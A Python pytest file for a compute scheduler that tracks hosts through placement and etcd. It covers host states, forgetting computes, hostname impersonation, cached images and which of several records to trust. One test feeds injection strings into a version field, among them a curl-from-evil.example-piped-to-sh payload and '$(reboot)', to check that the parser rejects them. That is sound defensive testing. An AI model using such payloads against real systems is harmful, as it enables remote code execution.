"""Computes as placement and etcd describe them: names, states, instances, leftovers."""

from __future__ import annotations

import json
from collections.abc import Collection
from dataclasses import dataclass, replace
from pathlib import Path
from typing import NamedTuple

import pytest
from jsonschema import Draft202012Validator

from docs.shapes import SHAPES
from ecomp.cli.operators import make_host_listing
from ecomp.cli.sharing import make_image_listing
from ecomp.model import keys
from ecomp.model.allocation import Inventory, Provider, Room
from ecomp.model.facts import MAX_CACHED_IMAGES, NO_FACTS, Facts, encode_facts, parse_facts
from ecomp.model.host import (
    NO_COMPUTES,
    Computes,
    EntriesByCompute,
    Host,
    PresenceFacts,
    ProviderSummary,
    StoredHostname,
    describe_silence,
    describe_silent_fix,
    group_by_instance,
    list_unproven,
)
from ecomp.model.image import hash_image
from ecomp.model.order import Request
from ecomp.model.record import Failure, Record
from ecomp.model.states import ACTIVE, GONE
from ecomp.model.status import DISABLED, DISABLED_BY_OPERATOR
from ecomp.model.stored import decode_lenient, encode
from ecomp.model.world import Inhabitants, Planes, ProviderState, World, list_hosts
from ecomp.scheduler.operations.forget import find_leftovers, find_obstacle
from ecomp.store.client import Entry
from tests.kit.forms import render
from tests.kit.transcript import compare_with_file

HOST, OTHER = (f'{digit * 8}-3a52-4b0f-8d87-0d8f1f2a6b01' for digit in 'ab')
A, B, C, D, E = (f'{digit * 8}-0000-4b0f-8d87-0d8f1f2a6b01' for digit in '12345')

SIZE = {'VCPU': 1, 'MEMORY_MB': 128, 'DISK_GB': 1}
LEASE = 7
OPEN_ROOM = {'VCPU': Room(4, 1), 'MEMORY_MB': Room(512, 128), 'DISK_GB': Room(10, 1)}
CLOSED_ROOM = {**OPEN_ROOM, 'VCPU': Room(0, 1, is_fully_reserved=True)}


def make_request(instance: str) -> Request:
    return Request(instance, {HOST: SIZE}, image='http://images.invalid/a')


def make_tombstone(instance: str) -> Request:
    return Request(instance, {})


def make_record(instance: str, state: str, compute: str = HOST) -> Record:
    return Record(instance, compute, state, image=None, error=Failure('disk', 'full', '') if state == 'error' else None)


def make_provider(shares: dict[str, Room] = OPEN_ROOM, uuid: str = HOST, name: str = '') -> dict[str, ProviderSummary]:
    return {uuid: ProviderSummary(name or uuid, shares)}


def make_world(
    hostnames: dict[str, str | None] | None = None,
    requests: dict[str, list[Request]] | None = None,
    records: Collection[Record] = (),
    held: Collection[str] = (),
    others: Collection[tuple[str, str]] = (),
) -> World:
    """Make a world, where `held` are claims on HOST and `others` further keys with values."""
    hostnames, values = hostnames or {}, dict(others)
    values |= {keys.compute(compute): json.dumps({'hostname': host}) for compute, host in hostnames.items()}
    for compute, requested in (requests or {}).items():
        values |= {keys.request(compute, each.instance): encode(each) for each in requested}
    values |= {keys.record(each.compute, each.instance): encode(each) for each in records}
    etcd = {key: Entry(key, value.encode(), 1, LEASE) for key, value in values.items()}
    return World(Planes({HOST: ProviderState(HOST, allocations=dict.fromkeys(held, {}))}, etcd))


@pytest.mark.parametrize(
    ('world', 'providers', 'expected'),
    [
        (make_world({HOST: 'hv1'}), make_provider(), 'up'),
        (make_world({HOST: 'hv1'}), make_provider(CLOSED_ROOM), 'up'),
        (make_world({HOST: None}), {}, 'up'),
        (make_world(), make_provider(CLOSED_ROOM), 'closed'),
        (make_world(requests={HOST: [make_request(A)]}), make_provider(CLOSED_ROOM), 'closed'),
        (make_world(requests={HOST: [make_request(A)]}), make_provider(), 'silent'),
        (make_world(requests={HOST: [make_tombstone(A)]}), {}, 'silent'),
        (make_world(records=[make_record(A, 'active')]), {}, 'silent'),
        (make_world(records=[make_record(A, 'gone')]), make_provider(), 'silent'),
        (make_world(others=[(keys.request(HOST, 'x'), '')]), make_provider(), 'silent'),
        (make_world(), make_provider(), 'orphaned'),
        (make_world(), make_provider({}), 'orphaned'),
    ],
)
def test_state_of_a_compute(world: World, providers: dict[str, ProviderSummary], expected: str) -> None:
    assert [host.state for host in list_hosts(world, providers)] == [expected]


def test_record_on_another_compute_makes_no_compute_silent() -> None:
    world = make_world(records=[make_record(A, 'active', OTHER)])
    listed = list_hosts(world, {**make_provider(), **make_provider(uuid=OTHER)})
    assert {host.compute: host.state for host in listed} == {HOST: 'orphaned', OTHER: 'silent'}


@pytest.mark.parametrize(
    'foreign',
    [
        make_provider(name='nova-compute-7'),  # a placement shared with OpenStack
        make_provider({'DISK_GB': Room(1000, 5)}),  # a storage pool, shared by aggregate
        make_provider({}, name='new'),
    ],
)
def test_foreign_provider_is_not_listed(foreign: dict[str, ProviderSummary]) -> None:
    assert list_hosts(make_world(), foreign) == []
    # If etcd knows it, it is shown with its data from placement.
    (shown,) = list_hosts(make_world({HOST: 'hv1'}), foreign)
    assert shown == Host(HOST, 'hv1', 'up', (), foreign[HOST].rooms, facts=PresenceFacts('hv1'))


def test_key_without_a_uuid_is_not_a_compute() -> None:
    assert list_hosts(make_world({'x': 'y'}, others=[(keys.request('', 'z'), '')]), {}) == []
    assert list_hosts(make_world(records=[make_record(A, 'active', 'x')]), {}) == []


def test_hosts_are_sorted_by_name_with_unnamed_last() -> None:
    third = 'c' + OTHER[1:]
    shown = list_hosts(make_world({third: 'hv1', OTHER: 'hv2'}), make_provider())
    assert [host.compute for host in shown] == [third, OTHER, HOST]


def test_closed_host_is_listed_with_its_name() -> None:
    hostnames = {HOST: 'hv1', 'c' + OTHER[1:]: 'hv3'}
    remembered = [(keys.hostname(compute), encode(StoredHostname(host))) for compute, host in hostnames.items()]
    world = make_world({OTHER: 'hv2'}, others=remembered)
    away, here = list_hosts(world, make_provider(CLOSED_ROOM))
    assert (away.compute, away.hostname, away.state, away.facts) == (HOST, 'hv1', 'closed', PresenceFacts())
    assert (here.hostname, here.facts) == ('hv2', PresenceFacts('hv2'))


def test_overcommitted_room_is_shown_and_free_is_not_negative() -> None:
    assert (Room(4, 1).free, Room(4, 1).over) == (3, 0)
    assert (Room(2, 3).free, Room(2, 3).over) == (0, 1)
    assert (Room(0, 3, is_fully_reserved=True).free, Room(0, 3, is_fully_reserved=True).over) == (0, 0)
    shown = render(make_host_listing([Host(HOST, None, 'up', (A, B), {'VCPU': Room(2, 3), 'PCPU': Room(8, 0)})]))
    assert '3/2 (1 too many)' in shown


# Instances of a compute


def test_request_of_finished_or_moved_instance_is_stray() -> None:
    finished = make_world(requests={HOST: [make_request(A)]}, records=[make_record(A, 'gone')])
    on_other = replace(make_request(A), allocations={OTHER: SIZE})
    both = make_world(requests={HOST: [make_request(A)], OTHER: [on_other]}, records=[make_record(A, 'active', OTHER)])
    moved = World(both.planes, lambda compute: {A} if compute == OTHER else set())
    for world in (finished, moved):
        assert world.find_inhabitants(HOST) == Inhabitants(set(), set(), {A})


# Forgetting a compute


ON_OTHER = replace(make_request(A), allocations={OTHER: SIZE})
FORGOTTEN: list[World] = [
    make_world({HOST: 'hv1'}),
    make_world({HOST: None}),
    make_world(requests={HOST: [make_request(A)]}, held={A}),
    make_world(records=[make_record(A, 'active')]),
    make_world(records=[replace(make_record(A, 'active'), name='web1')]),
    make_world(others=[(keys.request(HOST, A), '')]),
    make_world(requests={HOST: [make_request(each) for each in (A, B, C, D, E)]}),
    make_world(held={A}, others=[(keys.attempt(each), '') for each in (A, B)]),
    make_world(held={A}, others=[(keys.record(HOST, A), '')]),
    make_world(requests={HOST: [make_tombstone(A)]}, others=[(keys.record(HOST, A), '')]),
    make_world(requests={OTHER: [ON_OTHER]}, held={A}),
    make_world(records=[make_record(A, 'active', OTHER)], held={A}),
    make_world({OTHER: 'hv2'}, {OTHER: [ON_OTHER]}, held={A}),
    make_world(),
    make_world({OTHER: 'hv2'}, {OTHER: [ON_OTHER]}, others=[(keys.record(OTHER, B), ''), (keys.attempt(B), '')]),
    make_world(held={A}, others=[(keys.attempt(B), '')]),
    make_world(records=[make_record(A, 'gone'), make_record(B, 'error')], held={A, B}),
    make_world(
        requests={HOST: [make_tombstone(A), make_tombstone(B)]}, records=[make_record(B, 'active')], held={A, B, C}
    ),
    make_world(records=[make_record(A, 'destroying')], held={A}),
    make_world(others=[(keys.request(HOST, 'x/y'), '')]),
]


def test_forget_is_refused_or_removes_what_is_left() -> None:
    lines = []
    for world in FORGOTTEN:
        done = '; '.join(finding.sentence for finding in find_leftovers(world, HOST))
        lines.append(find_obstacle(world, HOST, 'hv1', fenced=True) or done or 'nothing is left')
    compare_with_file(Path(__file__).parent / 'golden/forget.txt', '\n'.join(lines) + '\n')


@pytest.mark.parametrize(
    ('alive', 'traits', 'shares', 'expected', 'shown'),
    [
        (True, {DISABLED, DISABLED_BY_OPERATOR}, OPEN_ROOM, ('disabled', True), 'disabled'),
        (True, {DISABLED}, OPEN_ROOM, ('disabled', True), 'disabled'),
        (True, set(), OPEN_ROOM, ('up', False), 'up'),
        (False, {DISABLED}, CLOSED_ROOM, ('closed', False), 'closed'),  # its ecompute set this when it stopped
        (False, {DISABLED, DISABLED_BY_OPERATOR}, CLOSED_ROOM, ('closed', True), 'closed, disabled'),
        (False, {DISABLED, DISABLED_BY_OPERATOR}, OPEN_ROOM, ('orphaned', True), 'orphaned, disabled'),
    ],
)
def test_disabled_computes_are_shown(
    alive: bool, traits: set[str], shares: dict[str, Room], expected: tuple[str, bool], shown: str
) -> None:
    provider = ProviderSummary(HOST, shares, frozenset(traits))
    listed = list_hosts(make_world({HOST: 'hv1'} if alive else {}), {HOST: provider})
    assert [(host.state, host.is_disabled) for host in listed] == [expected]
    assert shown in [cell.strip() for cell in render(make_host_listing(listed)).splitlines()[1].split('  ')]


def test_there_includes_instances_being_destroyed() -> None:
    states = {A: 'active', B: 'destroying', C: 'gone'}
    world = make_world(
        requests={HOST: [make_request(A), make_tombstone(B), make_request(C)]},
        records=[*(make_record(*each) for each in states.items()), make_record(D, 'active', OTHER)],
    )
    assert world.find_inhabitants(HOST).present == {A, B}
    # The same in the line of `eschedule hosts`.
    assert {host.compute: host.instances for host in list_hosts(world, {})} == {HOST: (A, B), OTHER: (D,)}


# Names of computes: the host name, and the uuid where the name is not unique.


HV1, HV2, HV3 = (f'{digit * 8}-3a52-4b0f-8d87-0d8f1f2a6b01' for digit in 'abc')


def test_hostname_in_presence_overrides_the_remembered_one() -> None:
    computes = Computes({HV1: PresenceFacts('new'), HV2: PresenceFacts()}, {HV1: 'old', HV2: 'hv2'})
    assert (computes.format_name(HV1), computes.format_name(HV2), computes.find_by_hostname('old')) == (
        'new',
        'hv2',
        [],
    )


def test_shared_host_name_is_shown_with_the_uuid() -> None:
    """A compromised compute must not get requests for a host that is down by using its name."""
    shared = Computes({HV1: PresenceFacts('hv1'), HV2: PresenceFacts('hv1')}, {HV3: 'hv1'})
    assert (shared.find_by_hostname('hv1'), shared.format_name(HV1)) == ([HV1, HV2, HV3], f'hv1 ({HV1})')
    impersonated = Computes({HV2: PresenceFacts('hv1')}, {HV1: 'hv1', HV2: 'hv2'})
    assert impersonated.find_by_hostname('hv1') == [HV1, HV2]
    assert (impersonated.format_name(HV2), impersonated.format_name(HV1)) == (f'hv1 ({HV2})', f'hv1 ({HV1})')
    # A host that was set up again has a new uuid. Its name is unique after the old compute is forgotten.
    replaced = Computes({HV2: PresenceFacts('hv1')}, {HV2: 'hv1'})
    assert (replaced.find_by_hostname('hv1'), replaced.format_name(HV2)) == ([HV2], 'hv1')


def test_silence_has_a_date_unless_it_began_today() -> None:
    last_seen = '2026-11-27T16:35:54.000Z'
    assert describe_silence(last_seen, '2026-11-27') == 'silent since 16:35:54'
    assert describe_silence(last_seen, '2026-11-28') == 'silent since 2026-11-27 16:35:54'
    assert describe_silence(None, '2026-11-27') == 'silent'


def test_host_name_may_have_two_life_leases() -> None:
    value = encode(StoredHostname('hv1', (7, 2**63 - 1))).encode()
    assert decode_lenient(StoredHostname, value) == StoredHostname('hv1', (7, 2**63 - 1))
    assert decode_lenient(StoredHostname, encode(StoredHostname('hv1')).encode()).leases == ()
    assert decode_lenient(StoredHostname, b'rubbish').leases == ()


def test_facts_say_which_images_are_cached() -> None:
    def parse(images: object) -> Facts:
        return parse_facts(json.dumps({'room': {}, 'images': images}).encode())

    assert [parse(['0123456789ab']).has_image(each) for each in ('0123456789ab', 'ffffffffffff')] == [True, False]
    assert parse([]).has_image('0123456789ab') is False
    assert parse({}).has_image('0123456789ab') is NO_FACTS.has_image('0123456789ab') is None
    full = parse([f'{number:012x}' for number in range(MAX_CACHED_IMAGES)])
    assert [full.has_image(each) for each in ('000000000001', 'ffffffffffff')] == [True, None]


def test_facts_are_published_as_they_are_parsed() -> None:
    inventories = {
        'VCPU': Inventory(4, reserved=1, allocation_ratio=2.0, max_unit=2),
        'MEMORY_MB': Inventory(8000),
        'DISK_GB': Inventory(3, reserved=3),
    }
    value = encode_facts(Provider(HV1, inventories, {'B', 'A'}, {HV2}), {'VCPU': 9}, ['0123456789ab']).encode()
    facts = parse_facts(value)
    assert facts == Facts(
        {'DISK_GB': (0, 0), 'MEMORY_MB': (8000, 0), 'VCPU': (6, 9)},
        {'VCPU': (1, 2, 1)},
        ('A', 'B'),
        (HV2,),
        ('0123456789ab',),
    )
    provider = facts.make_provider(HV1, [{'VCPU': 1}])
    assert provider.inventories['VCPU'] == Inventory(6, max_unit=2, used=10)
    assert provider.inventories['DISK_GB'].is_fully_reserved
    assert facts.rooms['VCPU'] == Room(6, 9)
    assert len(value) < 400


def test_image_is_named_by_its_pin_or_else_its_url() -> None:
    pin = 'AB' * 32
    assert hash_image(f'http://h/a#sha256={pin}') == 'ab' * 6 == hash_image(f'http://h/b#sha256={pin}')
    assert hash_image('http://h/a') not in (hash_image('http://h/b'), 'ab' * 6)


def test_image_listing_shows_hosts_that_may_have_the_image() -> None:
    image = 'http://h/a'
    facts = {HV1: Facts(images=(hash_image(image),)), HV2: Facts()}
    living = {compute: PresenceFacts(name) for compute, name in ((HV1, 'hv1'), (HV2, 'hv2'), (HV3, 'hv3'))}
    listing = make_image_listing({'trixie': image, 'other': 'http://h/b'}, Computes(living), facts)
    assert [row.cells for row in listing.rows] == [
        ('trixie', image, 'hv1; unknown: hv3'),
        ('other', 'http://h/b', 'unknown: hv3'),
    ]
    assert [each['cached'] for each in listing.rows[0].value['hosts']] == [True, False, None]
    alone = make_image_listing({'trixie': image}, Computes({HV2: living[HV2]}), facts)
    assert [row.cells for row in alone.rows] == [('trixie', image, None)]
    Draft202012Validator(SHAPES['image']).validate([row.value for row in listing.rows])


def test_malformed_parts_of_a_presence_are_ignored() -> None:
    facts = {'hostname': 'hv1', 'version': '1.1.0', 'kind': 'kvm', 'queues': True, 'token': 'x'}
    assert decode_lenient(PresenceFacts, json.dumps(facts).encode()) == PresenceFacts('hv1', '1.1.0', 'kvm', True)
    assert decode_lenient(PresenceFacts, b'{"hostname": "hv1", "version": "1.0.0"}') == PresenceFacts('hv1', '1.0.0')
    for value in (b'', b'[]', b'{"hostname": 1, "version": [], "kind": "", "queues": "yes"}', b'\xff'):
        assert decode_lenient(PresenceFacts, value) == PresenceFacts()
    assert decode_lenient(PresenceFacts, json.dumps({'version': 'v' * 10_000}).encode()) == PresenceFacts(
        version='v' * 64
    )
    for version in ("9'; curl evil.example|sh; '", '9 9', '$(reboot)', '9\n'):
        assert decode_lenient(PresenceFacts, json.dumps({**facts, 'version': version}).encode()) == PresenceFacts(
            'hv1', None, 'kvm', True
        )


def test_missing_taker_is_reported() -> None:
    assert 'no compute takes queued requests. Fix: set `queues: True`' in str(NO_COMPUTES.no_taker_reason)
    refusing, taking = PresenceFacts('hv1', queues=False), PresenceFacts(queues=True)
    no_takers = Computes({HV1: refusing, HV2: PresenceFacts('hv2')})
    assert 'no compute takes' in str(no_takers.no_taker_reason)
    assert str(no_takers.describe_unserved(['web1'])).startswith(
        'web1 waits in a queue, but no compute takes queued requests. Fix: '
    )
    assert str(no_takers.describe_unserved(['a', 'b', 'c'])).startswith('a and 2 more wait in a queue, but no compute')
    assert no_takers.describe_unserved([]) is None
    with_takers = Computes({HV2: taking, HV1: taking, HV3: refusing})
    assert (with_takers.takers, with_takers.no_taker_reason) == ([HV1, HV2], None)


class Presence(NamedTuple):
    revision: int
    lease: int
    value: bytes = b'{}'
    create_revision: int = 1


def test_unproven_trusts_presence_written_since_or_after_lease_end() -> None:
    providers = {HV1: HV1, HV2: HV2, HV3: HV3, 'd': 'a-shared-disk'}
    restored = {HV1: Presence(5, 1), HV2: Presence(9, 1), HV3: Presence(9, 0)}
    restored = {f'/computes/{compute}': presence for compute, presence in restored.items()}
    assert list_unproven(providers, restored, 5, have_leases_expired=False) == [HV1, HV3]
    assert list_unproven(providers, restored, 5, have_leases_expired=True) == [HV3]
    assert list_unproven(providers, {}, 5, have_leases_expired=True) == [HV1, HV2, HV3]
    assert list_unproven({}, restored, 5, have_leases_expired=False) == []


def test_silent_cure_names_the_host_in_one_argument() -> None:
    """A shell would refuse the parentheses of `name (uuid)`."""
    assert 'host forget hv2 --fenced' in describe_silent_fix('hv2')
    uuid = 'c0000000-0000-4000-8000-000000000003'
    assert f'host forget {uuid} --fenced' in describe_silent_fix(f'hv2 ({uuid})')


# The trusted record of an instance that has several keys.


INSTANCE = 'd578fb7c-7787-4e73-b69a-a7b3ef9bf73a'
ONE = 'b8756be5-a30d-4311-920c-0ad996367a8e'
TWO = '5ca1ab1e-0000-4000-8000-000000000000'


@dataclass
class StoredValue:
    value: bytes
    create_revision: int
    revision: int = 0


def make_record_value(compute: str, state: str, created: int) -> StoredValue:
    return StoredValue(encode(Record(INSTANCE, compute, state)).encode(), created)


def find_places(*pairs: tuple[str, StoredValue]) -> EntriesByCompute[StoredValue]:
    return group_by_instance(pairs)[INSTANCE]


@pytest.mark.fast
def test_oldest_of_several_records_is_trusted() -> None:
    first, later = make_record_value(ONE, ACTIVE, created=2), make_record_value(TWO, ACTIVE, created=5)
    assert find_places((keys.record(TWO, INSTANCE), later), (keys.record(ONE, INSTANCE), first)).compute == ONE
    # An instance destroyed while queued stays gone, even if a compute writes a record later.
    unassigned = make_record_value('', GONE, created=2)
    assert (
        find_places((keys.record(TWO, INSTANCE), later), (keys.record('', INSTANCE), unassigned)).record is unassigned
    )


@pytest.mark.fast
def test_request_is_trusted_before_a_record_elsewhere() -> None:
    pairs = [
        (keys.record(TWO, INSTANCE), make_record_value(TWO, ACTIVE, 1)),
        (keys.request(ONE, INSTANCE), StoredValue(b'{}', 7)),
    ]
    assert (find_places(*pairs).compute, find_places(*pairs).record) == (ONE, None)


@pytest.mark.fast
def test_request_whose_compute_holds_the_claim_is_trusted() -> None:
    """A forged request may be older than the delivery, because the uuid is public by then."""
    forged, genuine = StoredValue(b'{}', 3), StoredValue(b'{}', 7)
    pairs = [(keys.request(ONE, INSTANCE), forged), (keys.request(TWO, INSTANCE), genuine)]
    pairs += [(keys.record(ONE, INSTANCE), make_record_value(ONE, GONE, 4))]
    pairs += [(keys.record(TWO, INSTANCE), make_record_value(TWO, ACTIVE, 8))]
    for claims, compute, queried in (
        ({TWO: [INSTANCE]}, TWO, [ONE, TWO]),
        ({ONE: [INSTANCE]}, ONE, [ONE]),
        ({ONE: [INSTANCE], TWO: [INSTANCE]}, ONE, [ONE]),
        ({ONE: ['another']}, ONE, [ONE, TWO]),
    ):
        places, queries = find_places(*pairs), []

        def find_claims(compute: str, claims: dict[str, list[str]] = claims, queries: list[str] = queries) -> list[str]:
            queries.append(compute)
            return claims.get(compute, [])

        places.mark_claimless(INSTANCE, find_claims)
        assert (places.compute, queries) == (compute, queried)
        assert places.record is dict(pairs)[keys.record(compute, INSTANCE)]


@pytest.mark.fast
def test_single_request_is_trusted_without_asking_placement() -> None:
    pairs = [
        (keys.request(ONE, INSTANCE), StoredValue(b'{}', 3)),
        (keys.record(TWO, INSTANCE), make_record_value(TWO, ACTIVE, 1)),
    ]
    places = find_places(*pairs)
    places.mark_claimless(INSTANCE, lambda _: pytest.fail('asked'))
    assert places.compute == ONE
